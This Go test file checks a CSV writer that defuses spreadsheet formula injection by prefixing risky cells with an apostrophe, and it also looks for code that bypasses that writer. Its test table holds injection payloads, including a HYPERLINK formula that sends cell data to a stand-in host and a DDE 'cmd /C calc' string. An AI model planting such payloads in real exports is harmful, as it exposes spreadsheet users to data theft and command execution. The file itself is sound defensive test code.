package csvout

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"
)

func TestCell(t *testing.T) {
	tests := []struct{ in, want string }{
		{`=HYPERLINK("http://x/?"&A2,"click")`, `'=HYPERLINK("http://x/?"&A2,"click")`},
		{"+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"},
		{"-1+2", "'-1+2"},
		{"-2*A1", "'-2*A1"},
		{"@SUM(A1:A9)", "'@SUM(A1:A9)"},
		{"\t=1", "'\t=1"},
		{"\r=1", "'\r=1"},
		{"-", "'-"},
		{"-x", "'-x"},
		// Plain numbers keep their sign: they are data, not formulas.
		{"-3", "-3"},
		{"-12.5", "-12.5"},
		{"+2", "+2"},
		{"-1e3", "-1e3"},
		{"plain", "plain"},
		{"", ""},
		{"a=b", "a=b"},
	}
	for _, tc := range tests {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriterDefusesEveryCell(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf)
	rec := []string{"=1+1", "-3", "ok"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1+1" {
		t.Error("Write changed its argument")
	}
	got, err := csv.NewReader(&buf).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if got[0][0] != "'=1+1" || got[0][1] != "-3" || got[0][2] != "ok" {
		t.Errorf("got %q", got)
	}
}

// TestOneCSVWriter fails when code outside this package writes CSV with
// encoding/csv directly, bypassing the defusing.
func TestOneCSVWriter(t *testing.T) {
	_, here, _, _ := runtime.Caller(0)
	root := filepath.Join(filepath.Dir(here), "..", "..")
	err := filepath.WalkDir(root, func(p string, d os.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() || !strings.HasSuffix(p, ".go") || strings.HasSuffix(p, "_test.go") || strings.Contains(p, string(filepath.Separator)+"csvout"+string(filepath.Separator)) {
			return nil
		}
		b, err := os.ReadFile(p)
		if err != nil {
			return err
		}
		if bytes.Contains(b, []byte("csv.NewWriter(")) {
			t.Errorf("%s writes CSV with encoding/csv: use csvout.NewWriter", p)
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
